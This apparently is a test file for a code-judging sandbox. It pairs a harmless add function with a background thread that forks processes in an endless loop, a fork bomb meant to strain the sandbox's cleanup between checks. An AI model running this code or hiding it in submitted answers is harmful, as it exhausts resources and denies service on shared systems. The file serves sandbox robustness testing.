# attack: a thread of the loaded answer forks while the sandbox tidies up between two checks
# door: call
# verdict: runtime_error or time_limit
import os
import threading
import time


def breed():
    while True:
        try:
            if os.fork() == 0:
                time.sleep(1000)
        except OSError:
            pass


threading.Thread(target=breed, daemon=True).start()


def add(left, right):
    return left + right
